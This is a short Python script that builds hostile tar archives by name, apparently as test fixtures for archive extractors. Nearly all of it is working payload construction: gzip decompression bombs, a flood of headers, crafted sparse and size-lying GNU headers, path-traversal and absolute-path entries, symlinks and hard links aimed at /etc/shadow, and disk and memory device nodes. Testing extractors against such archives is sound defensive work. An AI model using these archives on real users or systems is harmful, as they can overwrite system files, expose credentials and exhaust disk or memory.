# tars.py KIND -- an archive that attacks whoever unpacks it.
import gzip, io, sys, tarfile


def archive(add, compress=False):
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tar:
        add(tar)
    out = raw.getvalue()
    return gzip.compress(out, 1) if compress else out


def file(tar, name, data=b"evil\n"):
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


def special(tar, name, kind, to="", major=0, minor=0):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.devmajor, info.devminor = kind, to, major, minor
    tar.addfile(info)


def headers(n):
    info = tarfile.TarInfo()
    for i in range(n):
        info.name = f"{i:x}"
        yield info.tobuf(tarfile.USTAR_FORMAT)


def sparse():
    """A GNU header of a file of 8 EiB with one byte in it (tar.h: oldgnu_header)."""
    h = bytearray(512)

    def put(at, text):
        h[at : at + len(text)] = text

    put(0, b"hole")
    put(100, b"0000644\0")
    put(108, b"0000000\0" * 2)
    put(124, b"00000000001\0")
    put(136, b"00000000000\0")
    put(156, b"S")
    put(257, b"ustar  \0")
    put(386, b"\x80" + (2**63 - 2).to_bytes(11, "big"))
    put(398, b"00000000001\0")
    put(483, b"\x80" + (2**63 - 1).to_bytes(11, "big"))
    put(148, b" " * 8)
    put(148, b"%06o\0 " % sum(h))
    return bytes(h) + b"x" + bytes(511) + bytes(1024)


def claim():
    info = tarfile.TarInfo("claim")
    info.size = 2**60
    return info.tobuf(tarfile.GNU_FORMAT) + b"little"


KINDS = {
    "bytes": lambda: archive(lambda t: file(t, "zeros", bytes(64 << 20)), True),
    "entries": lambda: gzip.compress(b"".join(headers(100000)) + bytes(1024), 1),
    "sparse": sparse,
    "claim": claim,
    "dotdot": lambda: archive(lambda t: [file(t, n) for n in ("../evil", "a/../../evil", "../var/tmp/evil")]),
    "absolute": lambda: archive(lambda t: [file(t, n) for n in ("/var/tmp/evil", "/dev/shm/evil", "/etc/evil")]),
    "link_then_file": lambda: archive(
        lambda t: [special(t, "d", tarfile.SYMTYPE, "/var/tmp"), file(t, "d/evil"),
                   special(t, "passwd", tarfile.SYMTYPE, "/etc/shadow")]
    ),
    "hard_link": lambda: archive(lambda t: special(t, "passwd", tarfile.LNKTYPE, "/etc/shadow")),
    "devices": lambda: archive(
        lambda t: [special(t, "disk", tarfile.BLKTYPE, major=254), special(t, "mem", tarfile.CHRTYPE, major=1, minor=1)]
    ),
    "program": lambda: archive(lambda t: file(t, "main.sh", b"echo theirs\n")),
}

sys.stdout.buffer.write(KINDS[sys.argv[1]]())
